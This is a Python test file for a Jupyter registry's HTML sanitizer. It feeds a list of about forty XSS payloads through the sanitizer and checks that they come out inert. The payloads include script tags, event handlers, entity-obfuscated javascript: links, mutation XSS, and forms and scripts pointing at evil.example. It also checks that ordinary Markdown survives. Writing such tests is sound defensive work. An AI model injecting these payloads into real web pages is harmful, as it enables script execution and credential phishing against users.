"""The one sanitizer every view uses: hostile markup comes out inert, Markdown survives.

The browser half (the same payloads in a real JupyterLab, checked not to run)
is ``test_browser_widgets.py::test_hostile_notes_and_fields_run_no_script_in_jupyterlab``.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from jupyter_registry import display
from jupyter_registry.sanitize import Html, escape_text, render_markdown, sanitize_html

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script, upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img onerror": '<img src="x" onerror="alert(1)">',
    "img onerror, unquoted": "<img src=x onerror=alert(1)//>",
    "svg onload": '<svg onload="alert(1)"><circle r="4"/></svg>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "math href": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "mutation XSS": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link, mixed case and spaces": '<a href="  JaVaScRiPt:alert(1)">x</a>',
    "javascript link, tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript link, newline entity": '<a href="java&#x0A;script:alert(1)">x</a>',
    "javascript link, decimal entities": '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    "javascript link, named entity": '<a href="javascript&colon;alert(1)">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data image": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "markdown javascript link": "[x](javascript:alert(1))",
    "markdown javascript image": "![x](javascript:alert(1))",
    "markdown data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "style element": "<style>body{background:url(javascript:alert(1))}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:red">covered</p>',
    "details ontoggle": '<details open ontoggle="alert(1)"><summary>s</summary></details>',
    "event attribute": '<b onmouseover="alert(1)">hover</b>',
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "button formaction": '<button formaction="javascript:alert(1)">go</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "video source onerror": '<video><source onerror="alert(1)"></video>',
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "html comment": "<!--><img src=x onerror=alert(1)>-->",
    "id clobbering": '<a id="jupyter-config-data" name="x">x</a>',
    "class spoofing": '<div class="jp-Dialog">fake dialog</div>',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
}

SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt",
    "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark",
    "ol", "p", "pre", "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup",
    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul",
}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "src", "title", "alt", "width", "height", "start", "colspan",
                   "rowspan", "open", "target", "rel"}  # fmt: skip


class _Elements(HTMLParser):
    """Every element and attribute of a fragment, parsed as a browser would split it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", {}))


def _inert(html: str) -> bool:
    """Only text-structure elements, no handler or style, URLs only http(s), mailto, relative."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.found:
        if tag not in SAFE_TAGS or not set(attrs) <= SAFE_ATTRIBUTES:
            return False
        for name in ("href", "src"):
            url = re.sub(r"[\x00-\x20]", "", attrs.get(name) or "").lower()
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", url)
            if scheme and scheme.group(1) not in ("http", "https", "mailto"):
                return False
    return True


@pytest.mark.parametrize("payload", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_markup_comes_out_inert(payload: str) -> None:
    for html in (render_markdown(payload), sanitize_html(payload)):
        assert _inert(html), html


@pytest.mark.parametrize("payload", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_markup_inside_markdown_leaves_the_markdown(payload: str) -> None:
    html = render_markdown(f"# Title\n\nBefore *this*.\n\n{payload}\n")
    assert _inert(html), html
    assert html.startswith("<h1>Title</h1>\n<p>Before <em>this</em>.</p>\n"), html


def test_ordinary_markdown_survives() -> None:
    html = render_markdown(
        "## Results\n\n"
        "Trained on **MNIST** with _Adam_ and ~~SGD~~; see [the paper](https://arxiv.org/abs/1)"
        ", [a relative doc](docs/model.md), <mailto:team@example.com> and ![plot](plot.png).\n\n"
        "1. first\n2. second\n\n"
        "- a\n  - nested\n\n"
        "> a quote\n\n"
        "```python\nprint('<b>not bold</b>')\n```\n\n"
        "| metric | value |\n|:--|--:|\n| accuracy | 0.97 |\n\n"
        "Inline `x < y` and <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O.\n\n"
        "<details><summary>More</summary>hidden text</details>\n\n---\n"
    )
    for fragment in (
        "<h2>Results</h2>",
        "<strong>MNIST</strong>",
        "<em>Adam</em>",
        "<s>SGD</s>",
        '<a href="https://arxiv.org/abs/1" target="_blank" rel="noopener noreferrer">the paper</a>',
        '<a href="docs/model.md" target="_blank" rel="noopener noreferrer">',
        '<a href="mailto:team@example.com"',
        '<img src="plot.png" alt="plot">',
        "<ol>\n<li>first</li>",
        "<li>nested</li>",
        "<blockquote>",
        "<pre><code>print('&lt;b&gt;not bold&lt;/b&gt;')\n</code></pre>",
        "<th>metric</th>",
        "<td>0.97</td>",
        "<code>x &lt; y</code>",
        "<kbd>Ctrl</kbd>",
        "<sub>2</sub>",
        "<details><summary>More</summary>hidden text</details>",
        "<hr>",
    ):
        assert fragment in html, fragment


def test_links_open_apart_and_without_the_opener() -> None:
    html = sanitize_html('<a href="https://example.com" rel="opener" target="_self">x</a>')
    assert html == ('<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>')


def test_escape_text_shows_markup_as_text() -> None:
    assert escape_text('<b a="1">&') == "&lt;b a=&quot;1&quot;&gt;&amp;"
    assert isinstance(escape_text(3), Html) and escape_text(3) == "3"


def test_cards_escape_everything_but_html_built_by_the_sanitizer() -> None:
    html = display.card(
        "<script>alert(1)</script>",
        {
            "<i>key</i>": "<img src=x onerror=alert(1)>",
            "labels": display.chips(["<b>x</b>"]),
            "metadata": {"k": "<svg onload=alert(1)>"},
            "notes": render_markdown("*fine*"),
        },
    )
    parser = _Elements()
    parser.feed(html.replace(display.STYLE, ""))
    assert {tag for tag, _ in parser.found} == {
        "div",
        "b",
        "table",
        "tr",
        "th",
        "td",
        "span",
        "code",
        "p",
        "em",
    }
    assert [attrs for _, attrs in parser.found if attrs] == [
        {"class": "jr-card"},
        {"class": "jr-chip"},
    ]
    assert "&lt;i&gt;key&lt;/i&gt;" in html and '<span class="jr-chip">&lt;b&gt;x' in html
    assert "<em>fine</em>" in html
